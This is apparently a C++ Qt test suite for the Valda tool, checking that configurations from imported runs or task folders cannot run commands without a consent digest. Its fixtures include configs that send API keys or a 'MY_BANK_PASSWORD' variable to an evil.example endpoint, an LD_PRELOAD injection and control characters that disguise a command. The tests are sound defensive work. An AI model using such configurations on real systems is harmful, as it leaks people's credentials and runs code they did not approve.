// SPDX-FileCopyrightText: 2026 The Valda authors
// SPDX-License-Identifier: GPL-3.0-or-later

// Foreign runs and configurations, as seen in a terminal: no foreign program runs before the consent.

#include "tests/app/foreigndesk.h"

#include <QTest>

#include <csignal>
#include <cstdlib>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

using test::ForeignDesk;
using test::Outcome;

namespace {

const QByteArray head = "task: Write a text\nseed: 3\npopulation: {ranking: metric}\nstop: {candidates: 2}\n";
const QByteArray measured = "evaluators: [{kind: length, maxWords: 60}]\n";

/// Configurations that run a program, one for each place that allows it.
QList<std::pair<const char *, QByteArray>> hostileConfigurations(const ForeignDesk &desk)
{
    const QByteArray command = desk.command(), scorer = desk.scorer();
    return {
        {"a generator", head + measured + "generator: {provider: command, command: " + command + "}\n"},
        {"one of several generators", head + measured + "generator: [{provider: offline, weight: 0.001}, {provider: command, command: " + command + "}]\n"},
        {"a generator of a step", head + measured + "generator: offline\nseeding: {generators: [{provider: command, command: " + command + "}]}\n"},
        {"a generator with a variable", head + measured + "generator: {provider: command, command: " + command + ", environment: {LD_PRELOAD: /nowhere.so}}\n"},
        {"an evaluator", head + "generator: offline\nevaluators: [{kind: command, name: size, command: " + scorer + "}]\n"},
        {"a scorer", head + "generator: offline\nevaluators: [{kind: threshold, threshold: 0.1, scorer: {command: " + scorer + "}}]\n"},
        {"an evaluator among others", head + "generator: offline\nevaluators: [{kind: composite, children: [{weight: 1, kind: length, maxWords: 60}, {weight: 1, kind: command, command: " + scorer + "}]}]\n"},
        {"a loop", "task: Write a text\nseed: 3\nrecipe: refine\nrefinement: {maxIterations: 1}\nevaluators: [{kind: length, maxWords: 60}]\ngenerator: {provider: command, command: " + command + "}\n"},
    };
}

/// A task folder of OpenEvolve with a program that scores 1.
void fillTask(const ForeignDesk &desk, const QByteArray &config, const char *evaluator = "evaluator.py")
{
    test::write(desk.at(QStringLiteral("task/") + QLatin1StringView(evaluator)), "def evaluate(path):\n    return {'combined_score': 1.0}\n");
    test::write(desk.at(QStringLiteral("task/initial_program.py")), "def run():\n    return 1\n");
    test::write(desk.at(QStringLiteral("task/config.yaml")), config);
}

/// Runs the program in a new terminal and types `typed`; returns exit code and terminal output.
std::pair<int, QByteArray> atATerminal(const ForeignDesk &desk, const QStringList &words, const QByteArray &typed)
{
    const int master = ::posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || ::grantpt(master) != 0 || ::unlockpt(master) != 0)
        qFatal("no terminal for the test");
    const QByteArray name = ::ptsname(master);
    QProcess process;
    process.setProcessEnvironment(desk.environment());
    process.setWorkingDirectory(desk.at(QString()));
    process.setProgram(ForeignDesk::program());
    process.setArguments(words);
    process.setChildProcessModifier([name] {
        ::setsid();
        const int terminal = ::open(name.constData(), O_RDWR);
        ::dup2(terminal, STDIN_FILENO);
        ::dup2(terminal, STDERR_FILENO);
    });
    process.start();
    (void)!::write(master, typed.constData(), size_t(typed.size()));
    QByteArray said;
    ::fcntl(master, F_SETFL, O_NONBLOCK);
    const auto readOn = [&] {
        char bytes[4096];
        for (ssize_t count = 0; (count = ::read(master, bytes, sizeof bytes)) > 0;)
            said.append(bytes, count);
    };
    for (int i = 0; i < 600 && !process.waitForFinished(100); ++i)
        readOn();
    readOn();
    ::close(master);
    return {process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1, said};
}

} // namespace

class tst_ConsentCommands : public QObject
{
    Q_OBJECT

    static QString imported(const ForeignDesk &desk, const QString &archive)
    {
        const Outcome outcome = desk.valda({QStringLiteral("import"), archive});
        if (outcome.code != 0)
            qFatal("not imported: %s", outcome.err.constData());
        return QString::fromUtf8(outcome.out.trimmed());
    }

private Q_SLOTS:
    void archives_data()
    {
        QTest::addColumn<int>("number");
        const ForeignDesk desk;
        const auto all = hostileConfigurations(desk);
        for (int i = 0; i < all.size(); ++i)
            QTest::newRow(all[i].first) << i;
    }
    /// No command on an imported run executes its program; the refusal of resume names the program and the option.
    void archives()
    {
        QFETCH(int, number);
        const ForeignDesk author, desk;
        const QString archive = test::archiveOf(author, hostileConfigurations(author)[number].second);
        const QString run = imported(desk, archive);
        const Outcome events = desk.valda({QStringLiteral("events"), run});
        QVERIFY(events.out.split('\n').constFirst().contains("\"foreign\":true"));
        for (const QStringList &words : {QStringList{QStringLiteral("show"), run}, {QStringLiteral("replay"), run}, {QStringLiteral("export"), run}})
            QVERIFY2(desk.valda(words).code == 0, qPrintable(words.join(u' ')));
        const QStringList resume{QStringLiteral("resume"), run, QStringLiteral("--set"), QStringLiteral("stop.candidates=3"), QStringLiteral("--set"), QStringLiteral("refinement.maxIterations=2")};
        const Outcome refused = desk.valda(resume);
        QCOMPARE(refused.code, 2);
        QVERIFY2(refused.err.contains("touch " + author.mark().toUtf8()), refused.err.constData());
        QCOMPARE(refused.digests().size(), 1);
        QVERIFY(!author.isMarked());
        QVERIFY(!desk.valda({QStringLiteral("events"), run}).out.contains("runResumed"));
        const Outcome wrong = desk.valda(resume + QStringList{QStringLiteral("--trust"), QString(40, u'0')});
        QCOMPARE(wrong.code, 2);
        QVERIFY(!author.isMarked());
        const Outcome agreed = desk.valda(resume + QStringList{QStringLiteral("--trust"), refused.digests()[0]});
        QVERIFY2(agreed.code == 0, agreed.err.constData());
        QVERIFY(author.isMarked());
    }

    void anAgreementHoldsForTheRunAndTheWords()
    {
        const ForeignDesk author, desk;
        const QString archive = test::archiveOf(author, hostileConfigurations(author)[0].second);
        const QString run = imported(desk, archive);
        const auto resume = [&](const QString &which, const QStringList &more) { return desk.valda(QStringList{QStringLiteral("resume"), which, QStringLiteral("--set")} + more); };
        const QStringList digest = resume(run, {QStringLiteral("stop.candidates=3")}).digests();
        QCOMPARE(resume(run, {QStringLiteral("stop.candidates=3"), QStringLiteral("--trust"), digest.value(0)}).code, 0);
        author.unmark();
        QCOMPARE(resume(run, {QStringLiteral("stop.candidates=4")}).code, 0); // consent is given once per run
        QVERIFY(author.isMarked());
        author.unmark();
        // The same program with another folder or variable needs a new consent.
        for (const char *change : {"generator.workingDirectory=/tmp", "generator.environment={A: b}", "generator.command=[sh, -c, \"touch MARK\"]"}) {
            const Outcome changed = resume(run, {QStringLiteral("seeding.generators=null"), QStringLiteral("--set"), QStringLiteral("stop.candidates=5"), QStringLiteral("--set"),
                QString::fromLatin1(change).replace(QStringLiteral("MARK"), author.mark())});
            QVERIFY2(changed.code == 2 || QByteArray(change).contains("command="), changed.err.constData());
            if (changed.code == 2)
                QVERIFY2(changed.err.contains("--trust") && changed.digests() != digest, changed.err.constData());
            author.unmark();
        }
        // Another run with the same program needs its own consent: here an export of the resumed run.
        const QString second = desk.at(QStringLiteral("second.valda"));
        QCOMPARE(desk.valda({QStringLiteral("export"), run, QStringLiteral("--format"), QStringLiteral("archive"), QStringLiteral("-o"), second}).code, 0);
        const ForeignDesk other;
        const QString there = imported(other, second);
        QVERIFY(other.valda({QStringLiteral("events"), there}).out.contains("\"foreign\":true"));
        const Outcome asked = other.valda({QStringLiteral("resume"), there, QStringLiteral("--set"), QStringLiteral("stop.candidates=6")});
        QCOMPARE(asked.code, 2);
        QCOMPARE(asked.digests(), digest);
        QVERIFY(!author.isMarked());
    }

    /// The agreements in a library of another person do not count.
    void aLibraryFromElsewhere()
    {
        const ForeignDesk author, desk;
        (void)test::archiveOf(author, hostileConfigurations(author)[0].second);
        QVERIFY(QFile::exists(author.library() + QStringLiteral("/agreements.json")));
        const Outcome runs = desk.valda({QStringLiteral("runs"), QStringLiteral("--json"), QStringLiteral("--library"), author.library()});
        const QString run = runs.lastLine()[u"run"].toString();
        QVERIFY2(!run.isEmpty(), runs.out.constData());
        QVERIFY(!desk.valda({QStringLiteral("events"), run, QStringLiteral("--library"), author.library()}).out.contains("\"foreign\":true"));
        const Outcome refused = desk.valda({QStringLiteral("resume"), run, QStringLiteral("--library"), author.library(), QStringLiteral("--set"), QStringLiteral("stop.candidates=3")});
        QCOMPARE(refused.code, 2);
        QVERIFY2(refused.err.contains("--trust"), refused.err.constData());
        QVERIFY(!author.isMarked());
        // The owner resumes without a question.
        QCOMPARE(author.valda({QStringLiteral("resume"), run, QStringLiteral("--set"), QStringLiteral("stop.candidates=3")}).code, 0);
        QVERIFY(author.isMarked());
    }

    void foldersWithAConfigurationOfTheirOwn_data()
    {
        QTest::addColumn<QByteArray>("config");
        const ForeignDesk desk;
        const QByteArray tail = "generator: {provider: command, command: COMMAND}\nstop: {candidates: 2}\n";
        QTest::newRow("a whole one of ours") << QByteArray("valda: 1\ntask: Improve it\n" + tail);
        QTest::newRow("by its recipe") << QByteArray("recipe: evolve\ntask: Improve it\n" + tail);
        QTest::newRow("mixed with that of OpenEvolve") << QByteArray("max_iterations: 2\n" + tail);
        QTest::newRow("that says it is none") << QByteArray("valda: 1\nforeign: false\ntask: Improve it\n" + tail);
        QTest::newRow("that says null") << QByteArray("valda: 1\nforeign: null\ntask: Improve it\n" + tail);
        QTest::newRow("in a list") << QByteArray("valda: 1\ntask: Improve it\ngenerator: [{provider: offline, weight: 0.001}, {provider: command, command: COMMAND}]\nstop: {candidates: 2}\n");
        QTest::newRow("as an evaluator") << QByteArray("valda: 1\ntask: Improve it\ngenerator: offline\nevaluators: [{kind: command, command: COMMAND}]\nstop: {candidates: 2}\n");
        QTest::newRow("beside the name of the generator") << QByteArray("valda: 1\ntask: Improve it\ngenerator: command\ncommand: COMMAND\nstop: {candidates: 2}\n");
    }
    void foldersWithAConfigurationOfTheirOwn()
    {
        QFETCH(QByteArray, config);
        const ForeignDesk desk;
        fillTask(desk, config.replace("COMMAND", desk.command()));
        const QString folder = desk.at(QStringLiteral("task"));
        for (const QStringList &words : {QStringList{QStringLiteral("validate"), folder}, {QStringLiteral("estimate"), folder}, {QStringLiteral("evaluate"), folder}}) {
            const Outcome outcome = desk.valda(words);
            QVERIFY2(outcome.code == 0, outcome.err.constData());
            QVERIFY2(!desk.isMarked(), qPrintable(words[0]));
        }
        const Outcome refused = desk.valda({QStringLiteral("run"), folder});
        QCOMPARE(refused.code, 2);
        QVERIFY2(refused.err.contains("touch " + desk.mark().toUtf8()), refused.err.constData());
        QVERIFY(!desk.isMarked());
        QCOMPARE(desk.valda({QStringLiteral("run"), folder, QStringLiteral("--set"), QStringLiteral("foreign=false")}).code, 2);
        QVERIFY(!desk.isMarked());
        QVERIFY(desk.valda({QStringLiteral("runs")}).out.isEmpty());
        QCOMPARE(refused.digests().size(), 1);
        const Outcome agreed = desk.valda({QStringLiteral("run"), folder, QStringLiteral("--trust"), refused.digests()[0], QStringLiteral("--json")});
        QVERIFY2(agreed.code == 0, agreed.err.constData());
        QVERIFY(desk.isMarked() || config.contains("evaluators:")); // the evaluator of the task alone measures programs
        QVERIFY(agreed.out.contains("\"foreign\":true"));
    }

    /// Values from the command line or the person's own file need no consent, not even on resume.
    void ownWordsAreNotAskedFor()
    {
        const ForeignDesk desk;
        fillTask(desk, "max_iterations: 2\n");
        const QString own = QStringLiteral("generator={provider: command, command: %1}").arg(QString::fromUtf8(desk.command()));
        const Outcome ran = desk.valda({QStringLiteral("run"), desk.at(QStringLiteral("task")), QStringLiteral("--set"), own, QStringLiteral("--json")});
        QVERIFY2(ran.code == 0, ran.err.constData());
        QVERIFY(desk.isMarked());
        desk.unmark();
        const Outcome resumed = desk.valda({QStringLiteral("resume"), ran.lastLine()[u"run"].toString(), QStringLiteral("--set"), QStringLiteral("stop.candidates=4")});
        QVERIFY2(resumed.code == 0, resumed.err.constData());
        QVERIFY(desk.isMarked());
    }

    void keys_data()
    {
        QTest::addColumn<QByteArray>("generator");
        QTest::addColumn<QByteArrayList>("words");
        QTest::newRow("a variable of the person") << QByteArray("{provider: openai-compatible, endpoint: \"https://evil.example/v1\", model: m, apiKeyEnv: MY_BANK_PASSWORD}") << QByteArrayList{"MY_BANK_PASSWORD", "https://evil.example"};
        QTest::newRow("a further server") << QByteArray("{provider: openai, endpoints: [\"https://evil.example:8443/v1\"], model: m, apiKeyEnv: OPENAI_API_KEY}") << QByteArrayList{"OPENAI_API_KEY", "https://evil.example:8443"};
        QTest::newRow("the vendor's own") << QByteArray("{provider: openai, model: gpt-4o}") << QByteArrayList{"OPENAI_API_KEY", "https://api.openai.com"};
        QTest::newRow("of a step") << QByteArray("offline\nseeding: {generators: [{provider: anthropic, endpoint: \"https://evil.example\", model: m, apiKeyEnv: HOME}]}") << QByteArrayList{"HOME", "https://evil.example"};
    }
    void keys()
    {
        QFETCH(QByteArray, generator);
        QFETCH(QByteArrayList, words);
        ForeignDesk desk;
        desk.variables.insert(QStringLiteral("OPENAI_API_KEY"), QStringLiteral("sk-of-the-person"));
        desk.variables.insert(QStringLiteral("MY_BANK_PASSWORD"), QStringLiteral("secret"));
        fillTask(desk, "valda: 1\ntask: Improve it\nstop: {candidates: 2}\ngenerator: " + generator + "\n");
        const Outcome refused = desk.valda({QStringLiteral("run"), desk.at(QStringLiteral("task"))});
        QCOMPARE(refused.code, 2);
        for (const QByteArray &word : words)
            QVERIFY2(refused.err.contains(word), refused.err.constData());
        QVERIFY(!refused.digests().isEmpty());
        QVERIFY2(!refused.err.contains("sk-of-the-person"), "the key itself is not shown");
    }

    void theTerminalAsks()
    {
        const ForeignDesk author, desk;
        const QString run = imported(desk, test::archiveOf(author, hostileConfigurations(author)[4].second));
        const QStringList resume{QStringLiteral("resume"), run, QStringLiteral("--set"), QStringLiteral("stop.candidates=3")};
        for (const QByteArray &no : {QByteArray("n\n"), QByteArray("\n")}) {
            const auto [code, said] = atATerminal(desk, resume, no);
            QCOMPARE(code, 2);
            QVERIFY2(said.contains("touch " + author.mark().toUtf8()) && said.contains("[y/N]"), said.constData());
            QVERIFY(!author.isMarked());
        }
        const auto [code, said] = atATerminal(desk, resume, "y\n");
        QVERIFY2(code == 0, said.constData());
        QVERIFY(author.isMarked());
    }

    /// Control characters in the command cannot change the look of the question.
    void theQuestionShowsWhatIsHidden()
    {
        const ForeignDesk desk;
        fillTask(desk, "valda: 1\ntask: Improve it\nstop: {candidates: 2}\ngenerator: {provider: command, command: [sh, \"-c\", \"touch " + desk.mark().toUtf8() + "\\n\\e[2K\\u202e ls\"]}\n");
        const Outcome refused = desk.valda({QStringLiteral("run"), desk.at(QStringLiteral("task"))});
        QCOMPARE(refused.code, 2);
        QVERIFY2(refused.err.contains("\\u000a") && refused.err.contains("\\u001b") && refused.err.contains("\\u202e"), refused.err.constData());
        QVERIFY(!refused.err.contains('\x1b'));
        QVERIFY(!desk.isMarked());
    }

    void aWrongDigestIsSaid()
    {
        const ForeignDesk desk;
        for (const char *digest : {"yes", "*", "", "0123456789abcdef0123456789abcdef0123456", "0123456789ABCDEF0123456789abcdef01234567"})
            QCOMPARE(desk.valda({QStringLiteral("resume"), QStringLiteral("x"), QStringLiteral("--trust"), QLatin1StringView(digest)}).code, 2);
    }

    /// Only this user can read the secret that signs agreements; a planted secret is not used.
    void theSecretIsPrivate()
    {
        const ForeignDesk author, desk;
        const QString key = author.settings() + QStringLiteral("/valda/valda/consent.key");
        (void)test::archiveOf(author, hostileConfigurations(author)[0].second);
        QVERIFY(QFile::exists(key));
        QCOMPARE(QFile::permissions(key) & (QFile::ReadGroup | QFile::WriteGroup | QFile::ReadOther | QFile::WriteOther), QFile::Permissions());
        // The copy of the author's secret is readable by others.
        const QString planted = desk.settings() + QStringLiteral("/valda/valda/consent.key");
        QDir().mkpath(QFileInfo(planted).path());
        QVERIFY(QFile::copy(key, planted));
        QVERIFY(QFile::setPermissions(planted, QFile::Permissions(0x6644)));
        const Outcome runs = desk.valda({QStringLiteral("runs"), QStringLiteral("--json"), QStringLiteral("--library"), author.library()});
        const Outcome refused = desk.valda({QStringLiteral("resume"), runs.lastLine()[u"run"].toString(), QStringLiteral("--library"), author.library(), QStringLiteral("--set"), QStringLiteral("stop.candidates=3")});
        QCOMPARE(refused.code, 2);
        QVERIFY(!author.isMarked());
    }
};

QTEST_GUILESS_MAIN(tst_ConsentCommands)
#include "tst_consentcommands.moc"
